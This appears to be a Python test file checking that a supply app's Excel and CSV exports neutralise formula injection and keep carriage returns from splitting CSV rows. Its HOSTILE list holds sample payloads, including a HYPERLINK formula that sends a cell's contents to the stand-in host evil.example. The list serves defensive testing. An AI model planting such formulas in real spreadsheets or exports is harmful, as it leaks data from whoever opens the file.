"""Formula injection (issue 18, point 7): text a requester typed never becomes a live formula in
an export, and a bare carriage return never splits a CSV row."""

import io
from datetime import timedelta

import pandas as pd
from openpyxl import load_workbook

from supplyapp import clock, exports
from supplyapp.services import demand_requests
from tests.conftest import as_user, login
from tests.downloads import csv_rows

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "+46-SUM(1+1)",
    "-2+3",
    "@SUM(1+1)",
    "Behov\rrad två;=1+1",
]


def _file(justification: str) -> None:
    with as_user("requester"):
        demand_requests.file_request(
            "0380",
            "ffp2",
            100,
            clock.today() + timedelta(days=3),
            "high",
            justification,
            stock_on_hand=10,
            daily_use=5,
        )


def test_the_officers_excel_export_holds_the_text_never_a_formula(client, users):
    for text in HOSTILE:
        _file(text)
    login(client, "officer")
    excel = client.get("/demand/requests/export.xlsx?status=")
    sheet = load_workbook(io.BytesIO(excel.data)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    column = header.index("justification") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert all(cell.data_type == "s" for cell in cells), [c.data_type for c in cells]
    values = sorted(cell.value.replace("\r", "\n") for cell in cells)
    expected = ("'" + text if text[0] in "=+-@" else text for text in HOSTILE)
    assert values == sorted(text.replace("\r", "\n") for text in expected)


def test_the_csv_export_keeps_one_row_per_request_and_no_formula(client, users):
    for text in HOSTILE:
        _file(text)
    login(client, "officer")
    rows = csv_rows(client.get("/demand/requests/export.csv?status=").data)
    assert len(rows) == len(HOSTILE)
    assert all(not row["justification"].startswith(("=", "+", "-", "@")) for row in rows)
    assert {"Behov\rrad två;=1+1", "Behov\nrad två;=1+1"} & {r["justification"] for r in rows}


def test_every_export_passes_through_the_neutraliser(app):
    frame = pd.DataFrame({"text": ["=1+1", "\t=2", "ok", None], "n": [-1, 2, 3, 4]})
    with app.test_request_context():
        body = exports.download(frame, "x", "csv").get_data().decode("utf-8-sig")
    lines = body.split("\r\n")
    assert lines[1:5] == ["'=1+1;-1", "'\t=2;2", "ok;3", ";4"]
